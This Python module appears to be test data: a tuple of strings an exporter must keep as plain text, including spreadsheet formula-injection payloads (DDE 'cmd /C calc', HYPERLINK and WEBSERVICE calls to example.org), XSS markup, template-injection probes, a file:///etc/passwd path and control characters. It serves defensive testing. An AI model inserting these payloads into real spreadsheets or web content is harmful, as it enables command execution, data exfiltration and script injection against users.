"""Two hundred texts that must stay texts: formulas, markup, control signs, direction marks, long and odd ones."""

_LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\x00=",
    "\ufeff=",
)
_FORMULAS = (
    "1+1",
    'HYPERLINK("http://example.org/?x="&A1,"klik")',
    "cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org/",A2),"//a")',
    "SUM(1;2)*cmd|'/C notepad'!A1",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.org")',
    "'x'!A1",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></table><script src=//example.org></script>",
    "</title><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<p>x'></iframe>",
    "<!-- x --><style>*{display:none}</style>",
    "]]><x/>&undefined;",
    "&lt;b&gt; &amp; &#60;",
    "{{ 7*7 }} {% raw %}",
    "{0.__class__} %s %n ${x}",
    "<math><mtext></p><img src=x></math>",
    "<meta http-equiv=refresh content=0>",
    "<base href=http://example.org>",
)
_SIGNS = tuple(
    f"voor{chr(code)}na" for code in (*range(32), 0x7F, 0x85, 0x2028, 0x2029, 0x200B, 0x200F, 0x202E, 0xFFFE, 0xFFFF)
)
_ODD = (
    "'t is goed",
    "''=1",
    "'=1",
    "'",
    "http://example.org",
    "mailto:iemand@example.org",
    "internal:'Sheet1'!A1",
    "file:///etc/passwd",
    "\\\\server\\share",
    "1e5",
    "007",
    "TRUE",
    "#REF!",
    "NULL",
    "NaN",
    'een;twee,drie\t"vier"',
    "regel 1\nregel 2\r\nregel 3",
    " spaties ",
    "\u202eomgekeerd",
    "e\u0301a\u0300",
    "\U0001f469\u200d\U0001f680\U0001f1e7\U0001f1ea",
    "x" * 40_000,
    "\U0001f600" * 20_000,
    "_x0041_",
)

PAYLOADS = tuple(
    dict.fromkeys((*(lead + formula for lead in _LEADS for formula in _FORMULAS), *_MARKUP, *_SIGNS, *_ODD))
)
